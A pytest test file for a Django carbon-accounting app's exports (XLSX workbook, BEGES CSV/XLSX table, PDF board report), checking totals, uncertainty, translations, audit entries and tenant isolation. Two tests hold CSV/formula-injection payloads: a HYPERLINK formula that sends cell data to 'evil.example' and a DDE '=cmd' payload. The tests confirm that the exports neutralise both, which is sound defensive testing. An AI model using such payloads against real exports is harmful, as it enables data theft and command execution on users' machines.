"""An inventory's exports read back: the board's PDF, the workbook of lines and
results, the BEGES table as CSV and XLSX. Expected figures come from the
lines written in ``test_results``."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from levier.accounts.models import OrgRole
from levier.audit.models import Action as AuditAction
from levier.audit.models import AuditEntry
from levier.carbon import labels
from levier.carbon.models import CarbonReduction
from levier.plans.models import Action
from levier.tenancy.scope import system
from tests.carbon.factories import make_factor, make_inventory, make_line
from tests.carbon.test_results import YEAR_LINES, Spec, add_lines, kg, uncertainty_kg, url
from tests.factories import make_member, make_organisation

pytestmark = pytest.mark.django_db

BEGES_POSTS = {
    1: ("1.1", "1.2", "1.3", "1.4", "1.5"),
    2: ("2.1", "2.2"),
    3: ("3.1", "3.2", "3.3", "3.4", "3.5"),
    4: ("4.1", "4.2", "4.3", "4.4", "4.5"),
    5: ("5.1", "5.2", "5.3", "5.4"),
    6: ("6.1",),
}


@pytest.fixture
def inventory(organisation):
    return add_lines(
        make_inventory(organisation, year=2024, headcount=25, revenue_keur=3200), YEAR_LINES
    )


@pytest.fixture
def viewer_client(client, organisation):
    client.force_login(make_member(organisation, OrgRole.VIEWER))
    return client


def tonnes(kg_value: float) -> float:
    return round(kg_value / 1000, 3)


def french_number(text: str) -> float:
    return float(text.replace("\xa0", "").replace(",", "."))


# XLSX of lines and results ----------------------------------------------------------


def test_the_workbook_lists_every_line_with_its_factor_and_emissions(viewer_client, inventory):
    response = viewer_client.get(url(inventory, "carbon_xlsx"))

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Lignes", "Résultats"]
    rows = list(book["Lignes"].iter_rows(values_only=True))
    header = rows[0]
    by_label = {row[header.index("De quoi il s’agit")]: row for row in rows[1:]}
    assert set(by_label) == {spec.label for spec in YEAR_LINES}
    for spec in YEAR_LINES:
        row = by_label[spec.label]
        assert row[header.index("Quantité")] == spec.quantity
        assert row[header.index("Valeur du facteur (kgCO2e)")] == spec.factor_value
        assert row[header.index("kgCO2e")] == pytest.approx(spec.kg, abs=0.001)
        assert row[header.index("Incertitude (kgCO2e)")] == pytest.approx(
            spec.uncertainty_kg, abs=0.001
        )
        assert row[header.index("Identifiant dans la source")]


def test_the_results_sheet_gives_the_total_scopes_and_posts(viewer_client, inventory):
    response = viewer_client.get(url(inventory, "carbon_xlsx"))

    rows = list(
        load_workbook(io.BytesIO(response.content))["Résultats"].iter_rows(values_only=True)
    )
    by_name = {row[0]: row for row in rows if row and row[0]}
    assert by_name["Total"][1] == tonnes(kg(YEAR_LINES))
    assert by_name["Total"][2] == tonnes(uncertainty_kg(YEAR_LINES))
    for scope in (1, 2, 3):
        with_label = by_name[str(labels.scope_label(scope))]
        assert with_label[1] == tonnes(kg(s for s in YEAR_LINES if s.scope == scope))
    post = by_name[str(labels.beges_post_label("3.5"))]
    assert post[1] == tonnes(kg(s for s in YEAR_LINES if s.beges == "3.5"))


def test_a_label_starting_with_a_formula_stays_text(viewer_client, inventory):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    add_lines(inventory, [Spec("waste", formula, 1, 450, "t", 50, "measured", 3, "4.3")])

    response = viewer_client.get(url(inventory, "carbon_xlsx"))

    sheet = load_workbook(io.BytesIO(response.content))["Lignes"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == "'" + formula]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


# BEGES table ------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    content = response.content
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_the_beges_csv_has_the_22_posts_subtotals_and_scopes(viewer_client, inventory):
    response = viewer_client.get(url(inventory, "carbon_beges", "csv"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    posts = {
        row[1]: row for row in rows if len(row) == 6 and row[1] in sum(BEGES_POSTS.values(), ())
    }
    assert len(posts) == 22
    for category, codes in BEGES_POSTS.items():
        for code in codes:
            of_post = [s for s in YEAR_LINES if s.beges == code]
            assert french_number(posts[code][3]) == pytest.approx(tonnes(kg(of_post)))
            assert french_number(posts[code][4]) == pytest.approx(tonnes(uncertainty_kg(of_post)))
        subtotal = next(r for r in rows if r[:2] == [str(category), ""] and "Sous-total" in r[2])
        of_category = [s for s in YEAR_LINES if s.beges.split(".")[0] == str(category)]
        assert french_number(subtotal[3]) == pytest.approx(tonnes(kg(of_category)))
    scope_rows = [r for r in rows if len(r) == 6 and r[0] in "123" and r[0] and r[1] == ""]
    scope_rows = [r for r in scope_rows if r[2].startswith("Scope")]
    assert [french_number(r[3]) for r in scope_rows] == [
        pytest.approx(tonnes(kg(s for s in YEAR_LINES if s.scope == n))) for n in (1, 2, 3)
    ]
    totals = [r for r in rows if len(r) > 3 and r[2] == "Total"]
    assert len(totals) == 2
    for total in totals:
        assert french_number(total[3]) == pytest.approx(tonnes(kg(YEAR_LINES)))


def test_the_beges_csv_neutralises_a_name_starting_with_a_formula(client):
    organisation = make_organisation(name="=cmd|' /C calc'!A0")
    client.force_login(make_member(organisation, OrgRole.VIEWER))
    inventory = add_lines(make_inventory(organisation), YEAR_LINES[:1])

    rows = read_csv(client.get(url(inventory, "carbon_beges", "csv")))

    assert rows[0][0] == "'=cmd|' /C calc'!A0"


def test_the_beges_workbook_in_english(client, organisation, inventory):
    client.force_login(make_member(organisation, OrgRole.VIEWER))
    client.cookies["django_language"] = "en"

    response = client.get(url(inventory, "carbon_beges", "xlsx"))

    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["BEGES", "GHG Protocol"]
    rows = list(book["BEGES"].iter_rows(values_only=True))
    assert ("Category", "Post", "Name", "tCO2e", "Uncertainty (tCO2e)", "Uncertainty (%)") in rows
    post = next(row for row in rows if row[1] == "4.1")
    assert post[2] == "4.1 Goods bought"
    assert post[3] == tonnes(kg(s for s in YEAR_LINES if s.beges == "4.1"))
    empty = next(row for row in rows if row[1] == "5.4")
    assert empty[3] == 0
    ghg = list(book["GHG Protocol"].iter_rows(values_only=True))
    category_7 = next(row for row in ghg if row[:2] == (3, 7))
    assert category_7[3] == tonnes(kg(s for s in YEAR_LINES if s.post == "commuting"))


def test_the_beges_table_has_no_other_format(viewer_client, inventory):
    as_pdf = url(inventory, "carbon_beges", "csv").replace(".csv", ".pdf")
    assert viewer_client.get(as_pdf).status_code == 404
    assert viewer_client.get(url(inventory, "carbon_beges", "xlsx")).status_code == 200


# PDF --------------------------------------------------------------------------------


def pdf_text(response) -> str:
    reader = PdfReader(io.BytesIO(response.content))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_the_pdf_report_for_the_board(viewer_client, organisation, inventory):
    inventory.notes = "Siège de Nantes seulement ; entrepôt exclu."
    inventory.save()
    action = Action.objects.create(organisation=organisation, title="Passer les trajets en train")
    CarbonReduction.objects.create(
        action=action,
        inventory=inventory,
        post="business_travel",
        lever="switch",
        share=0.3,
        projected_kg=1234.0,
    )

    response = viewer_client.get(url(inventory, "carbon_pdf"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(pdf_text(response).split())
    total, u = kg(YEAR_LINES), uncertainty_kg(YEAR_LINES)

    def french(kg_value, decimals=1):
        return f"{kg_value / 1000:.{decimals}f}".replace(".", ",")

    assert organisation.name in text
    assert f"{french(total)} tCO2e" in text
    assert f"entre {french(total - u)} et {french(total + u)} tCO2e" in text
    assert "Siège de Nantes seulement ; entrepôt exclu." in text
    assert "GIEC" in text
    assert "Passer les trajets en train" in text
    assert "1,23" in text  # its expected tCO2e
    for spec in sorted(YEAR_LINES, key=lambda s: -s.kg)[:5]:
        assert spec.label in text
    # Every factor used, with its source's identifier and version.
    with system():
        factors = {line.factor for line in inventory.lines.select_related("factor")}
    for factor in factors:
        assert f"identifiant {factor.source_id} · version {factor.source_version}" in text
    assert "4.4 Actifs en location amont" in text  # an empty post of the BEGES table


def test_exports_are_recorded_by_name(viewer_client, organisation, inventory):
    for name, args in [("carbon_pdf", ()), ("carbon_xlsx", ()), ("carbon_beges", ("csv",))]:
        response = viewer_client.get(url(inventory, name, *args))
        filename = response["Content-Disposition"].split('filename="')[1].rstrip('"')
        assert AuditEntry.objects.filter(
            action=AuditAction.RESULTS_EXPORTED, organisation=organisation, detail=filename
        ).exists()


def test_export_queries_do_not_grow_with_the_lines(client, organisation):
    client.force_login(make_member(organisation, OrgRole.VIEWER))
    small = make_inventory(organisation, year=2023)
    large = make_inventory(organisation, year=2024)
    factor = make_factor(0.05, "kWh")
    make_line(small, factor=factor)
    for _ in range(40):
        make_line(large, factor=make_factor(0.05, "kWh"))

    for name, args in [("carbon_xlsx", ()), ("carbon_beges", ("xlsx",))]:
        with CaptureQueriesContext(connection) as few:
            client.get(url(small, name, *args))
        with CaptureQueriesContext(connection) as many:
            client.get(url(large, name, *args))
        assert len(many) == len(few), name


def test_another_organisations_exports_are_404_and_work_for_its_own(client, inventory):
    outsider = make_member(make_organisation(inventory.organisation.network, name="Gamma"))
    allowed = make_member(inventory.organisation, OrgRole.VIEWER)
    for name, args in [("carbon_pdf", ()), ("carbon_xlsx", ()), ("carbon_beges", ("csv",))]:
        client.force_login(outsider)
        assert client.get(url(inventory, name, *args)).status_code == 404
        client.force_login(allowed)
        assert client.get(url(inventory, name, *args)).status_code == 200


def test_the_pdf_report_in_english(client, organisation, inventory):
    client.force_login(make_member(organisation, OrgRole.VIEWER))
    client.cookies["django_language"] = "en"

    text = " ".join(pdf_text(client.get(url(inventory, "carbon_pdf"))).split())

    total, u = kg(YEAR_LINES), uncertainty_kg(YEAR_LINES)
    assert f"Likely between {(total - u) / 1000:.1f} and {(total + u) / 1000:.1f} tCO2e" in text
    assert "Emission factors used" in text
    assert "No action of the plan is linked to this inventory yet." in text


def test_an_empty_inventory_exports_zeros(viewer_client, organisation):
    empty = make_inventory(organisation, year=2025)

    for name, args in [("carbon_pdf", ()), ("carbon_xlsx", ()), ("carbon_beges", ("csv",))]:
        assert viewer_client.get(url(empty, name, *args)).status_code == 200
    rows = read_csv(viewer_client.get(url(empty, "carbon_beges", "csv")))
    assert [french_number(r[3]) for r in rows if len(r) > 3 and r[2] == "Total"] == [0, 0]


def test_a_factor_without_published_uncertainty_is_never_shown_as_exact(
    viewer_client, organisation
):
    inventory = make_inventory(organisation, year=2024)
    unknown = make_factor(value=2.0, unit="kg", posts=("refrigerants",), uncertainty=0)
    known = make_factor(value=0.1, unit="kWh", posts=("electricity",), uncertainty=10)
    make_line(inventory, "refrigerants", 300, factor=unknown, label="Leak")  # 600 kg
    make_line(inventory, "electricity", 4000, factor=known, label="Offices")  # 400 kg

    text = " ".join(pdf_text(viewer_client.get(url(inventory, "carbon_pdf"))).split())
    assert "± 0 %" not in text
    assert "non publiée" in text and "± 10 %" in text
    assert "compte comme exact" in text
    assert "Ici, ces lignes font 60 % du total." in text

    book = load_workbook(io.BytesIO(viewer_client.get(url(inventory, "carbon_xlsx")).content))
    rows = list(book["Lignes"].iter_rows(values_only=True))
    header = rows[0]
    column = header.index("Incertitude du facteur (%)")
    by_label = {row[header.index("De quoi il s’agit")]: row for row in rows[1:]}
    assert by_label["Leak"][column] is None
    assert by_label["Offices"][column] == 10
